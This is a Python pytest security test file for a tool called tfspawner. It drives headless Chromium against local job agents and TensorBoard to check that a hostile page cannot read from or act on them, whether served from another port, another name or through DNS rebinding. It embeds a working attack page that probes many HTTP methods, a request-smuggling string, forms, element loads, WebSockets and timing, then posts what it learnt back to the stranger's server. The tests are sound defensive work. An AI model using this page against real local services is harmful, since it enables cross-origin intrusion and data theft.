"""A page of a stranger's, in a real browser, against what listens on this machine: the agents and TensorBoard.

The page comes from another port, or from a name that its owner lets point to this machine once it is loaded (DNS
rebinding), so that the browser takes what listens here for a part of the page's own site.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import tempfile
import threading
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from agent_port import agent_port as served_agent

from tfspawner.errors import SpawnerError
from tfspawner.jobs import tensorboard
from tfspawner.replica.log import Log

CANARY = "canary-value"
ELSEWHERE = "stranger.test"  # the browser is told that it is 127.0.0.1
WAYS = ("another port", "another name", "rebound")

# What a page can try. Whatever it can read, or tell to be there, is put into `learnt`.
PAGE = """<!doctype html><meta charset="utf-8"><body><script>
const target = TARGET, paths = PATHS, learnt = [], tried = {count: 0}, short = 4000;
const learn = (how, what) => learnt.push([how, what]);
const within = promise => Promise.race([promise, new Promise(done => setTimeout(done, short))]);
async function read(how, path, options) {
  tried.count++;
  try {
    const reply = await fetch(target + path, {signal: AbortSignal.timeout(short), cache: "no-store", ...options});
    if (reply.type !== "opaque" && reply.type !== "opaqueredirect")
      learn(how, {status: reply.status, text: await reply.text(), headers: [...reply.headers]});
  } catch (error) {}
}
function element(name, attributes, how) {
  tried.count++;
  return within(new Promise(done => {
    const made = document.createElement(name);
    made.onload = made.onloadedmetadata = () => {
      if (name === "iframe") {
        try { learn(how, {status: null, text: made.contentDocument.documentElement.innerText}); } catch (error) {}
      } else learn(how, {loaded: true, width: made.naturalWidth});
      done();
    };
    made.onerror = done;
    Object.assign(made, attributes);
    document.body.append(made);
  }));
}
function form(path, method, enctype) {
  tried.count++;
  const name = "frame" + tried.count, frame = document.createElement("iframe"), made = document.createElement("form");
  frame.name = name;
  Object.assign(made, {target: name, action: target + path, method, enctype});
  const field = document.createElement("textarea");
  Object.assign(field, {name: '{"offsets":', value: "null}"});
  made.append(field);
  document.body.append(frame, made);
  return within(new Promise(done => {
    made.submit();
    frame.onload = () => {
      try {
        const text = frame.contentDocument.documentElement.innerText;
        if (text) learn("form", {status: null, text});
      } catch (error) {}
      done();
    };
  }));
}
function opened(kind, path) {
  tried.count++;
  return within(new Promise(done => {
    const place = new URL(target + path, location.href);
    if (kind === "WebSocket") place.protocol = "ws:";
    const made = new window[kind](place);
    made.onopen = made.onmessage = () => { learn(kind, {loaded: true}); done(); };
    made.onerror = () => { made.close(); done(); };
  }));
}
async function all() {
  const smuggled = "GET " + paths[0] + " HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n";
  for (const path of paths) {
    for (const method of ["GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "PATCH", "PROPFIND"]) {
      const body = method === "GET" || method === "HEAD" ? undefined : "null";
      await read(method, path, {method, body});
      await read(method + " with a token", path, {method, body, headers: {"X-Tfspawner-Proof": "guess"}});
      await read(method + " with cookies", path, {method, body, credentials: "include"});
      if (["GET", "HEAD", "POST"].includes(method))
        await read(method + " without CORS", path, {method, body, mode: "no-cors", credentials: "include"});
    }
    await read("POST of JSON", path, {method: "POST", body: "{}", headers: {"Content-Type": "application/json"}});
    await read("smuggling", path, {method: "POST", body: smuggled + smuggled, keepalive: true, mode: "no-cors"});
    navigator.sendBeacon(target + path, "null");
    await form(path, "get", "application/x-www-form-urlencoded");
    await form(path, "post", "text/plain");
    await form(path, "post", "multipart/form-data");
    const address = target + path;
    await Promise.all([
      element("img", {src: address}, "img"), element("script", {src: address}, "script"),
      element("script", {src: address, type: "module"}, "module"), element("link", {rel: "stylesheet", href: address}, "style"),
      element("iframe", {src: address}, "iframe"), element("video", {src: address}, "video"),
      element("object", {data: address}, "object"), opened("WebSocket", path), opened("EventSource", path),
    ]);
    for (const entry of performance.getEntriesByName(new URL(address, location.href).href))
      if (entry.responseStatus || entry.encodedBodySize)
        learn("timing", {status: entry.responseStatus, text: "" + entry.encodedBodySize});
  }
}
within = null;
</script></body>
""".replace(
    "within = null;\n",
    "all().finally(() => fetch('/told', {method: 'POST', body: JSON.stringify({tried: tried.count, learnt})}));\n",
)

pytestmark = pytest.mark.skipif(not shutil.which("chromium"), reason="needs Chromium")


class Stranger:
    """Serves the page and hears what it learnt; hands all other bytes to what the page is after, as a rebound name does."""

    def __init__(self, victim: int, page: str) -> None:
        self.victim, self.page = victim, page.encode()
        self.told: dict[str, Any] = {}
        self.has_told = threading.Event()
        self.listener = socket.create_server(("127.0.0.1", 0), backlog=100)
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self.listener.accept()
                threading.Thread(target=self.answer, args=[connection], daemon=True).start()

    def answer(self, connection: socket.socket) -> None:
        with connection, suppress(OSError):
            begun = connection.recv(65536)
            if begun.startswith(b"GET /page "):
                head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(self.page)}\r\nConnection: close"
                connection.sendall(head.encode() + b"\r\n\r\n" + self.page)
            elif begun.startswith(b"POST /told "):
                self.hear(connection, begun)
            elif begun:
                self.hand_on(connection, begun)

    def hear(self, connection: socket.socket, begun: bytes) -> None:
        while b"\r\n\r\n" not in begun:
            begun += connection.recv(65536)
        head, _, body = begun.partition(b"\r\n\r\n")
        length = int(head.lower().partition(b"content-length:")[2].split()[0])
        while len(body) < length:
            body += connection.recv(65536)
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        self.told = json.loads(body)
        self.has_told.set()

    def hand_on(self, connection: socket.socket, begun: bytes) -> None:
        with socket.create_connection(("127.0.0.1", self.victim)) as victim:
            victim.sendall(begun)
            threading.Thread(target=pump, args=[connection, victim], daemon=True).start()
            pump(victim, connection)


def pump(source: socket.socket, target: socket.socket) -> None:
    with suppress(OSError):
        while data := source.recv(65536):
            target.sendall(data)
    with suppress(OSError):
        target.shutdown(socket.SHUT_WR)


@contextmanager
def browser(profile: Path, url: str) -> Iterator[None]:
    process = subprocess.Popen(
        ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync",
         "--disable-background-networking", "--disable-component-update", f"--host-resolver-rules=MAP {ELSEWHERE} 127.0.0.1",
         f"--user-data-dir={profile}", "--remote-debugging-port=0", url],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
    )  # fmt: skip
    try:
        yield
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()


@pytest.fixture
def attack(tmp_path) -> Callable[[int, str, list[str]], list[tuple[str, dict[str, Any]]]]:
    """A function from a port, a way and paths to all that the page learnt there."""

    def attack(port: int, way: str, paths: list[str]) -> list[tuple[str, dict[str, Any]]]:
        target = "" if way == "rebound" else f"http://127.0.0.1:{port}"
        stranger = Stranger(port, PAGE.replace("TARGET", json.dumps(target)).replace("PATHS", json.dumps(paths)))
        host = "127.0.0.1" if way == "another port" else ELSEWHERE
        with browser(tmp_path / "profile", f"http://{host}:{stranger.port}/page"):
            assert stranger.has_told.wait(120), "the page did not get to its end"
        stranger.listener.close()
        assert stranger.told["tried"] == len(paths) * 41
        return stranger.told["learnt"]

    return attack


def replies(learnt: list[tuple[str, dict[str, Any]]]) -> tuple[set[int], set[str]]:
    """The status codes and texts that the page could read."""
    read = [what for _, what in learnt if "headers" in what]
    return {what["status"] for what in read}, {what["text"] for what in read}


# ---- the agents of jobs on this machine ----------------------------------------------------------


@pytest.fixture
def served() -> list[str]:
    """What an agent did for someone."""
    return []


@pytest.fixture
def agent_port(tmp_path, served) -> Iterator[int]:
    @contextmanager
    def serving(name: str) -> Iterator[None]:
        served.append(name)
        yield

    log = Log(tmp_path / "log")
    log.write(CANARY.encode())
    with served_agent(tmp_path, serving=serving, replica=CANARY, report={CANARY: CANARY}, log=log) as port:
        yield port


@pytest.mark.parametrize("way", WAYS)
def test_a_page_learns_nothing_of_an_agent_and_makes_it_do_nothing(attack, agent_port, served, way):
    learnt = attack(agent_port, way, ["/status", "/log?offset=0"])
    assert served == []
    assert CANARY not in str(learnt)
    if way != "rebound":
        assert learnt == []
        return
    statuses, words = replies(learnt)
    assert (statuses, len(words - {""})) == ({401}, 1), "the page sees that something refuses it, and no more"


# ---- TensorBoard ---------------------------------------------------------------------------------


LOOPBACK = {"0100007F": "127.0.0.1", "00000000000000000000000001000000": "::1"}  # as the kernel writes them


def listening(session: int) -> list[tuple[str, int]]:
    """The addresses at which a session's processes listen."""
    sockets = set()
    for process in Path("/proc").glob("[0-9]*"):
        with suppress(OSError):
            if os.getsid(int(process.name)) == session:
                sockets |= {os.readlink(entry) for entry in (process / "fd").iterdir()}
    tables = [Path(f"/proc/net/{name}").read_text().splitlines()[1:] for name in ("tcp", "tcp6")]
    rows = [line.split() for table in tables for line in table]
    found = [row[1].split(":") for row in rows if row[3] == "0A" and f"socket:[{row[9]}]" in sockets]
    return [(LOOPBACK.get(host, host), int(port, 16)) for host, port in found]


@pytest.fixture
def started(tmp_path, monkeypatch) -> Iterator[SimpleNamespace]:
    """A TensorBoard as `tf-spawner tensorboard` starts it; its folder is called like the canary, which it tells."""
    (tmp_path / "none").mkdir()
    (tmp_path / "none/tensorflow.py").write_text("raise ImportError('not in this test')")
    monkeypatch.setenv("PYTHONPATH", str(tmp_path / "none"))
    logs = tmp_path / CANARY
    logs.mkdir()
    port, secret = tensorboard.free_port(None), tensorboard.secret_path()
    with suppress(SpawnerError), tensorboard.tensorboard(tensorboard.program(), logs, port, secret, 5) as process:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}{secret}/data/environment") as reply:
            assert CANARY in reply.read().decode()
        yield SimpleNamespace(port=port, secret=secret, pid=process.pid)


@pytest.mark.parametrize("way", WAYS)
def test_a_page_learns_nothing_of_tensorboard(attack, started, way):
    learnt = attack(started.port, way, ["/data/environment", "/"])
    assert CANARY not in str(learnt)
    if way != "rebound":
        assert learnt == []
        return
    assert replies(learnt) == ({404}, {"Not found", ""})


def test_a_page_learns_nothing_of_tensorboards_data_server(attack, started):
    """It serves gRPC on a port of its own, which no page can speak."""
    addresses = listening(started.pid)
    assert {host for host, _ in addresses} <= {"127.0.0.1", "::1"}
    (port,) = {port for _, port in addresses} - {started.port}
    assert attack(port, "rebound", ["/tensorboard.data.TensorBoardDataProvider/ListRuns", "/"]) == []


def test_tensorboards_path_is_known_to_its_user_alone(started):
    """Other users see the process list, and what lies open in /tmp."""
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with suppress(OSError):
            assert started.secret.encode() not in path.read_bytes()
    notes = Path(tempfile.gettempdir(), ".tensorboard-info")
    assert not [path for path in notes.glob("*") if started.secret in path.read_text()]
    (flags,) = [
        path
        for path in Path(tempfile.gettempdir()).glob("tf-spawner-tensorboard-*/flags")
        if started.secret in path.read_text()
    ]
    assert flags.parent.stat().st_mode & 0o777 == 0o700
